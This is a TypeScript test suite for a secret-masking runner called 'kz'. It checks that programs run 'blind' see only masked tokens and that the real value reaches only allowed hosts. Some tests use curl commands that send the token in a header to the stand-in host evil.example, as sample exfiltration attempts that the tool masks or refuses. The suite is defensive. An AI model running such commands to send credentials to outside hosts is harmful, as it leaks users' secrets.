// What a blind program sends and gets: its requests work as they would with the value, which only the upstream sees.
import { createHash, randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type http from 'node:http';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FIXTURES, NODE, Story, type Ended, type StartOptions, has } from './kz.ts';
import { Running, waitFor } from './processes.ts';
import { answerJson, bodyOf, Upstream } from './upstream.ts';

const CLIENT = [NODE, `${FIXTURES}blind-client.mjs`];
/** -q: no settings of the machine. -f and -S: quiet, but for errors. */
const CURL = ['curl', '-q', '-sS'];

let story: Story;
let upstream: Upstream;
let value: string;
let serve: http.RequestListener;

beforeEach(async () => {
  story = new Story();
  value = story.canary();
  serve = (request, response) => {
    answerJson(response, { you: request.headers.authorization });
  };
  upstream = await Upstream.start((request, response) => {
    serve(request, response);
  });
  configure();
});

afterEach(async () => {
  story.end();
  await upstream.stop();
});

function configure(more = ''): void {
  upstream.configure(story, `[secrets]\nTOKEN = { provider = "env", ref = "SOURCE", hosts = ["api.example"]${more} }\n`);
}

function environment(options: StartOptions): StartOptions {
  return { ...options, env: { ...upstream.environment, SOURCE: value, ...options.env } };
}

function blind(command: readonly string[], options: StartOptions = {}): Promise<Ended> {
  return story.kz(['run', '--blind', '--', ...command], environment(options));
}

/** For commands that need the token in an argument: `$TOKEN`. */
function shell(script: string, options: StartOptions = {}): Promise<Ended> {
  return blind(['sh', '-c', script], options);
}

describe.skipIf(!has('curl'))('curl', () => {
  it('sends the value and gets the masked token back', async () => {
    const { stdout, stderr, code } = await shell(
      `echo "$TOKEN"; ${CURL.join(' ')} -H "Authorization: Bearer $TOKEN" https://api.example/user`,
    );
    expect({ stderr, code }).toEqual({ stderr: '', code: 0 });
    const [token = '', answer = ''] = stdout.split('\n');
    expect(JSON.parse(answer)).toEqual({ you: `Bearer ${token}` });
    expect(upstream.received.map(({ headers }) => headers.authorization)).toEqual([`Bearer ${value}`]);
    expect(upstream.connects).toEqual(['api.example:443']);
  });

  it('sends it as Basic, in the URL, in a cookie, in a query and in a form', async () => {
    const bodies: string[] = [];
    serve = (request, response) => {
      void bodyOf(request).then((body) => {
        bodies.push(body);
        answerJson(response, { body, headers: request.headers });
      });
    };
    const script = [
      '-u "me:$TOKEN" https://api.example/1',
      '"https://$TOKEN@api.example/2"',
      '-b "session=$TOKEN" https://api.example/3',
      '"https://api.example/4?q=x&access_token=$TOKEN"',
      '-d "grant=x" -d "client_secret=$TOKEN" https://api.example/5',
      `-H 'content-type: application/json' -d "{\\"a\\":[{\\"api_key\\":\\"$TOKEN\\"}]}" https://api.example/6`,
    ];
    const { code, stderr } = await shell(script.map((each) => `${CURL.join(' ')} ${each}`).join(' && '));
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    const [basic, user, cookie, query] = upstream.received;
    expect(Buffer.from(basic?.headers.authorization?.slice(6) ?? '', 'base64').toString()).toBe(`me:${value}`);
    expect(Buffer.from(user?.headers.authorization?.slice(6) ?? '', 'base64').toString()).toBe(`${value}:`);
    expect(cookie?.headers.cookie).toBe(`session=${value}`);
    expect(query?.path).toBe(`/4?q=x&access_token=${value}`);
    expect(bodies.slice(4)).toEqual([`grant=x&client_secret=${value}`, JSON.stringify({ a: [{ api_key: value }] })]);
  });

  it('leaves a token in free text as it is', async () => {
    let body = '';
    serve = (request, response) => {
      void bodyOf(request).then((text) => {
        body = text;
        response.end('ok');
      });
    };
    const { code } = await shell(
      `${CURL.join(' ')} -A "agent $TOKEN" -d "comment=my token is $TOKEN" https://api.example/gists && echo "$TOKEN" > token`,
    );
    expect(code).toBe(0);
    const token = readFileSync(join(story.project, 'token'), 'utf8').trim();
    expect(decodeURIComponent(body)).toBe(`comment=my token is ${token}`);
    expect(upstream.received[0]?.headers['user-agent']).toBe(`agent ${token}`);
  });

  it('to another host sends the masked token, also past the proxy', async () => {
    const direct = `--noproxy '*' --cacert upstream-ca.pem https://localhost:${String(upstream.port)}/`;
    const { stdout, code } = await shell(
      `${CURL.join(' ')} -H "X-Api-Key: $TOKEN" https://evil.example/ && ${CURL.join(' ')} -H "X-Api-Key: $TOKEN" ${direct} && echo "$TOKEN"`,
    );
    expect(code).toBe(0);
    const token = stdout.trim().split('\n').at(-1)?.replace(/^.*\}/, '');
    expect(token).toMatch(/^kz_masked_/);
    expect(upstream.received.map(({ headers }) => headers['x-api-key'])).toEqual([token, token]);
  });

  it('that holds the value itself is refused elsewhere, with a reason to act on', async () => {
    configure(', expose = true');
    const { stdout, code } = await shell(`${CURL.join(' ')} -H "X-Api-Key: $TOKEN" https://evil.example/`);
    expect(code).toBe(0);
    expect(stdout).toMatch(/^kz: 403 Forbidden: the request holds the value of TOKEN, which may not go to evil\.example\n/);
    expect(upstream.received).toEqual([]);
  });

  it('uploads and downloads files as they are', async () => {
    const up = randomBytes(3_000_000);
    const down = randomBytes(3_000_000);
    let got = '';
    serve = (request, response) => {
      const hash = createHash('sha256');
      request
        .on('data', (chunk: Buffer) => hash.update(chunk))
        .on('end', () => {
          if (request.method === 'PUT') got = hash.digest('hex');
          response.end(down);
        });
    };
    story.write('up.bin', up);
    const auth = '-H "Authorization: Bearer $TOKEN"';
    const { code, stderr } = await shell(
      `${CURL.join(' ')} -T up.bin ${auth} -o /dev/null https://api.example/up && ${CURL.join(' ')} ${auth} -o down.bin https://api.example/down`,
    );
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    expect(got).toBe(createHash('sha256').update(up).digest('hex'));
    expect(readFileSync(join(story.project, 'down.bin')).equals(down)).toBe(true);
  });
});

describe('one Node', () => {
  it('sends 500 requests at once', async () => {
    serve = (request, response) => {
      answerJson(response, { path: request.url, you: request.headers.authorization });
    };
    const { stdout, stderr, code } = await blind([...CLIENT, 'many=500', 'https://api.example/INDEX']);
    expect({ stderr, code }).toEqual({ stderr: '', code: 0 });
    const answers = stdout.split('\n').filter((line) => line.startsWith('{'));
    const paths = answers.map((line) => (JSON.parse((JSON.parse(line) as { body: string }).body) as { path: string }).path);
    const expected = Array.from({ length: 500 }, (_, index) => `/${String(index)}`).sort();
    expect(paths.sort()).toEqual(expected);
    expect(upstream.received.map(({ path }) => path).sort()).toEqual(expected);
    expect(new Set(upstream.received.map(({ headers }) => headers.authorization))).toEqual(new Set([`Bearer ${value}`]));
  });

  it('gets each event of a stream when it is sent', async () => {
    const EVENTS = 300;
    let stream: http.ServerResponse | undefined;
    serve = (request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' });
      response.write(`data: for ${request.headers.authorization ?? ''}\n\n`);
      stream = response;
    };
    const running = new Running(story.start(['run', '--blind', '--', ...CLIENT, 'stream=https://api.example/events'], environment({})));
    await waitFor('the stream', () => running.stdout.includes('for Bearer kz_masked_'));
    for (let event = 1; event <= EVENTS; event += 1) {
      // The next one is sent when this one was seen, so none waits for another.
      stream?.write(`data: event ${String(event)} ${value}\n\n`);
      await waitFor(`event ${String(event)}`, () => running.stdout.includes(`event ${String(event)} kz_masked_`));
    }
    stream?.end();
    expect(await running.ended).toMatchObject({ code: 0, stderr: '' });
    story.examine(running.stdout, 'the stream');
  });
});

describe.skipIf(!has('curl'))('a gigabyte, with curl', () => {
  const SIZE = 1 << 30;
  const CHUNK = randomBytes(1 << 20);
  const LIMIT_KB = 200 * 1024;

  /** The most memory that kz, the parent of the shell, has had. Linux only. */
  const MEMORY = 'sed -n "s/^VmHWM:[^0-9]*\\([0-9]*\\) kB/memory \\1/p" /proc/$PPID/status';

  it.skipIf(process.platform !== 'linux')(
    'goes up and comes down, and kz stays small',
    async () => {
      let uploaded = 0;
      serve = (request, response) => {
        if (request.method === 'POST') {
          request.on('data', (chunk: Buffer) => (uploaded += chunk.length)).on('end', () => response.end('thanks'));
          return;
        }
        response.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': SIZE });
        let left = SIZE / CHUNK.length;
        const more = (): void => {
          while (left > 0) {
            left -= 1;
            if (!response.write(CHUNK)) return void response.once('drain', more);
          }
          response.end();
        };
        more();
      };
      const up = `head -c ${String(SIZE)} /dev/zero | ${CURL.join(' ')} -X POST -T - -H "Authorization: Bearer $TOKEN" https://api.example/up`;
      const down = `${CURL.join(' ')} -H "Authorization: Bearer $TOKEN" https://api.example/down | wc -c`;
      const { stdout, stderr } = await shell(`${up} && ${down} && ${MEMORY}`);
      expect(stderr).toBe('');
      const [, size, memory] = /^thanks *(\d+)\nmemory (\d+)\n$/.exec(stdout) ?? [];
      expect([uploaded, Number(size)]).toEqual([SIZE, SIZE]);
      expect(Number(memory)).toBeGreaterThan(0);
      expect(Number(memory)).toBeLessThan(LIMIT_KB);
    },
    120_000,
  );
});
